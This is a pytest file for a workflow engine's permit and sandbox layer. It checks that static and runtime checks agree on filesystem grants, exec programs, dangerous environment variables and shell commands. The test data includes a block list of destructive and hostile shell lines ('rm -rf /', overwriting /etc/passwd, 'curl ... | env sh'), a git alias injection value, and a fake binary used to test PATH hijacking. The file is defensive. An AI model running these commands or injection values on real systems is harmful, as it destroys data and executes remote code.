"""check ≡ run for permits: the runtime asks the checker's one judge (issue 19).

Each test states the spec sentence it enforces. The fs/exec/net/tools comparisons below are a
small differential: the same grant and the same literal go to the static judge
(:meth:`checker.contracts.effects.Boundary.check`, via :func:`checker.contracts.effects.boundary_of`) and to
the run-time adapter (:class:`runtime.guard.permits.Boundary`), and must get the same verdict.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from checker.contracts.blocklist import judge_shell, judge_words
from checker.contracts.effects import boundary_of, dangerous_env
from checker.engine.pipeline import compile_text
from runtime.errors import TaskError
from runtime.guard.permits import Boundary
from runtime.verbs import exec as ex


def _compiled(tmp_path: Path, permits_yaml: str, body: str = "") -> object:
    body = body or "tasks:\n  t:\n    infer: { model: mock/echo, prompt: x }\n"
    src = f"nika: v1\nworkflow: {{ id: p }}\n{permits_yaml}\n{body}"
    return compile_text(src, str(tmp_path / "p.nika.yaml"), str(tmp_path))


def _boundary(tmp_path: Path, permits_yaml: str) -> Boundary:
    compiled = _compiled(tmp_path, permits_yaml)
    assert compiled.workflow is not None
    return Boundary(compiled.workflow.permits, tmp_path)


def _codes(tmp_path: Path, permits_yaml: str, body: str) -> set[str]:
    return {d.code for d in _compiled(tmp_path, permits_yaml, body).diagnostics if d.is_error}


FS_CASES = [
    ("./out/**", "out/a.json"),
    ("./out/**", "out/sub/deep.txt"),
    ("./out/**", "other/a.json"),
    ("./out", "out"),
    ("./out", "out/nested.txt"),  # a glob-free grant: decided by the one matcher on both sides
    ("./data/*.json", "data/x.json"),
    ("./data/*.json", "data/sub/x.json"),
    ("./data/?.json", "data/a.json"),  # `?` is read identically (the matcher's reading)
    ("./data/?.json", "data/?.json"),
    ("./a//b/./c/**", "a/b/c/d"),
    ("./src/**", "src/../secret"),
]


@pytest.mark.parametrize(("grant", "path"), FS_CASES)
def test_fs_grants_are_decided_identically_at_check_and_at_run(tmp_path, grant, path):
    """01 §permits fs / NEP-0009: a path grant is one identity, judged the same by check on the
    literal and by run on the canonical resolved path (no symlinks here, so the two coincide)."""
    permits = f'permits: {{ fs: {{ read: ["{grant}"] }} }}'
    static = boundary_of(_compiled(tmp_path, permits).workflow.permits).check("fs.read", "./" + path) is None
    try:
        _boundary(tmp_path, permits).resolve("t", path, "read")
        dynamic = True
    except TaskError as exc:
        assert exc.code == "NIKA-SEC-004"
        dynamic = False
    assert static == dynamic


def test_a_symlink_inside_a_grant_pointing_out_is_refused(tmp_path):
    """NEP-0009: the effective (symlink-resolved) path is judged, so a link cannot lead out."""
    (tmp_path / "out").mkdir()
    (tmp_path / "secret").write_text("s")
    os.symlink(tmp_path / "secret", tmp_path / "out" / "link")
    b = _boundary(tmp_path, 'permits: { fs: { read: ["./out/**"] } }')
    with pytest.raises(TaskError):
        b.resolve("t", "out/link", "read")


@pytest.mark.parametrize("program", ["git", "./bin/git", "/usr/bin/git", "bin/git", "GIT"])
def test_argv0_is_matched_exactly_as_the_checker_does(tmp_path, program):
    """01 §permits exec: an array names programs (argv ``command[0]``); a path whose basename
    is listed is a different program, refused at check on the literal and at run alike."""
    permits = 'permits: { exec: ["git"] }'
    static = boundary_of(_compiled(tmp_path, permits).workflow.permits).check("exec", program) is None
    try:
        _boundary(tmp_path, permits).check_exec("t", program, shell=False)
        dynamic = True
    except TaskError:
        dynamic = False
    assert static == dynamic == (program == "git")


def test_argv0_resolves_on_the_engine_path_never_the_tasks(tmp_path, run):
    """NEP-0005 / 01 §permits exec: a granted name is looked up on the engine's PATH; a task's
    ``exec.env.PATH`` cannot re-point it at another binary."""
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "echo").write_text("#!/bin/sh\nprintf pwned\n")
    (fake / "echo").chmod(0o755)
    result = run(
        f"""\
        nika: v1
        workflow: {{ id: path }}
        permits: {{ exec: ["echo"] }}
        tasks:
          t:
            exec: {{ command: ["echo", "real"], env: {{ PATH: "{fake}" }} }}
        """
    )
    assert result.tasks["t"].output == "real"
    assert ex.engine_program("echo", {"PATH": "/usr/bin:/bin"}, str(tmp_path)) != str(fake / "echo")


def test_computed_reentry_tokens_are_regated(tmp_path):
    """10 §permit-parameterization: a re-entry token an untrusted argv element resolves to is
    never covered unless the permit lists it; the author's literal words are not re-gated."""
    from checker.contracts.argv import Word

    def words(*spec: tuple[str, bool]) -> list[Word]:
        return [Word(t, u, "" if u else t) for t, u in spec]

    b = _boundary(tmp_path, 'permits: { exec: ["git"] }')
    with pytest.raises(TaskError) as info:
        b.check_argv("t", words(("git", False), ("-c", True), ("alias.x=!sh", False)))
    assert info.value.code == "NIKA-SEC-004"
    b.check_argv("t", words(("git", False), ("-c", False), ("x=y", False)))  # literal
    listed = _boundary(tmp_path, 'permits: { exec: ["git", "-c"] }')
    listed.check_argv("t", words(("git", False), ("-c", True), ("x=y", False)))


@pytest.mark.parametrize(
    "name",
    ["GIT_ASKPASS", "SSH_ASKPASS", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_3", "PAGER",
     "GIT_PAGER", "EDITOR", "VISUAL", "GIT_EXTERNAL_DIFF", "GIT_PROXY_COMMAND", "LESSOPEN", "ld_preload"],
)  # fmt: skip
def test_tool_command_hooks_are_on_the_dangerous_floor(name):
    """01 §permits env / NEP-0005: the tool-command-hook class never reaches a child, whether
    granted by ``permits.env`` or written in ``exec.env``; one table serves check and run."""
    assert dangerous_env(name)
    env = ex.compose_env((name,), {name: "x", "OK": "1"}, {name: "y", "PATH": "/bin"})
    assert name not in env and env["OK"] == "1"


BLOCKED = [
    "rm -rf /.",
    "rm -rf //",
    "env rm -rf /",
    "env -i FOO=1 rm -rf /",
    "command rm -rf /",
    "busybox rm -rf /",
    "/bin/rm -rf ~",
    "find / -delete",
    "find ~ -exec rm {} +",
    "echo x > /etc/passwd",
    "echo x >> /etc//passwd",
    "rm -rf /some/dir",
    "sudo -n true",
    "timeout 5 sudo true",
    "sh -c 'rm -rf /'",
    "curl -s https://x | env sh",
    "case $x in a) echo;; esac",  # bashlex cannot parse it: refused, never guessed
]


@pytest.mark.parametrize("line", BLOCKED)
def test_the_blocklist_sees_through_respellings(tmp_path, line):
    """02 §exec: the blocklist applies to ``shell:`` (01: ``exec: true`` is still gated); one
    detector refuses the literal at check (NIKA-SEC-001) and the resolved line at run."""
    assert judge_shell(line) is not None
    body = f"tasks:\n  t:\n    exec: {{ shell: {json.dumps(line)} }}\n"
    assert "NIKA-SEC-001" in _codes(tmp_path, "permits: { exec: true }", body)


@pytest.mark.parametrize("line", ["ls -la", "rm -rf ./build", "echo hi > out.txt", "git log | head", "rm x"])
def test_the_blocklist_lets_ordinary_commands_pass(tmp_path, line):
    assert judge_shell(line) is None
    body = f'tasks:\n  t:\n    exec: {{ shell: "{line}" }}\n'
    assert "NIKA-SEC-001" not in _codes(tmp_path, "permits: { exec: true }", body)


def test_argv_form_is_judged_too(tmp_path):
    """The corpus expects a recursive forced delete of an absolute path refused in argv form."""
    assert judge_words(["rm", "-rf", "/some/dir"]) is not None
    assert judge_words(["env", "rm", "-rf", None]) is None  # unknown words never match
    body = 'tasks:\n  t:\n    exec: { command: ["rm", "-rf", "/some/dir"] }\n'
    assert "NIKA-SEC-001" in _codes(tmp_path, "permits: { exec: true }", body)


def test_a_present_block_grants_only_the_tools_it_lists(tmp_path):
    """01 §permits: with ``permits:`` present and ``tools`` omitted, no ``invoke:`` of any tool;
    an absent block still lets pure builtins run (NEP-0003 law 4). Same verdict at check and run."""
    body = 'tasks:\n  j:\n    invoke: { tool: "nika:jq", args: { input: 1, expression: "." } }\n'
    assert "NIKA-SEC-004" in _codes(tmp_path, "permits: {}", body)
    assert "NIKA-SEC-004" not in _codes(tmp_path, 'permits: { tools: ["nika:jq"] }', body)
    assert "NIKA-SEC-004" not in _codes(tmp_path, "", body)
    with pytest.raises(TaskError):
        _boundary(tmp_path, "permits: {}").check_tool("j", "nika:jq", ())
    _boundary(tmp_path, 'permits: { tools: ["nika:*"] }').check_tool("j", "nika:jq", ())
    Boundary(None, tmp_path).check_tool("j", "nika:jq", ())
